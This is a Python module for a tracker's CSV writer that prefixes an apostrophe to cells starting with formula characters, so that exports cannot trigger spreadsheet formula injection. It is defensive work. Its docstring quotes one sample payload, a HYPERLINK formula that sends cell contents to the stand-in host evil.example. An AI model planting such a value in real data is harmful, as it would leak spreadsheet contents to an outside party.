"""The one CSV writer of the tracker: no cell it writes runs as a formula in a spreadsheet.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula (or becomes one)
in Excel, LibreOffice and Google Sheets ("CSV injection"): an e-mail such as
=HYPERLINK("http://evil.example/"&A2,"x")@evil.example would run when staff open the export.
Such a cell is written with a leading apostrophe, which spreadsheets show as plain text. A
cell that already starts with apostrophes before one of those characters gets one more, so
`restore` (used by the completions import) gives back exactly what was written.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    """Whether a spreadsheet could read the text (after any apostrophes) as a formula."""
    return text.lstrip("'")[:1] in FORMULA_STARTS and (
        text[:1] in FORMULA_STARTS or text[:1] == "'"
    )


def neutralise(value: object) -> str:
    """A cell a spreadsheet shows as text, never runs."""
    text = "" if value is None else str(value)
    return "'" + text if _needs_quote(text) else text


def restore(text: str) -> str:
    """The value `neutralise` was given, from the cell it wrote (other text unchanged)."""
    if text[:1] == "'" and _needs_quote(text[1:]):
        return text[1:]
    return text


def write_csv(
    header: Iterable[object], rows: Iterable[Iterable[object]], *, lineterminator: str = "\r\n"
) -> str:
    """A whole CSV document: the header and every row, each cell neutralised.

    A cell holding a CR or an LF is always quoted: csv quotes only the characters of its line
    terminator, and a bare CR left unquoted in an LF file ends the line for any reader that
    takes CR line endings (lms.csv_reader does).
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # both CR and LF are then quoted
    for cells in (header, *rows):
        writer.writerow([neutralise(cell) for cell in cells])
        out.seek(out.tell() - 2)  # the "\r\n" just written gives way to the wanted ending
        out.truncate()
        out.write(lineterminator)
    return out.getvalue()
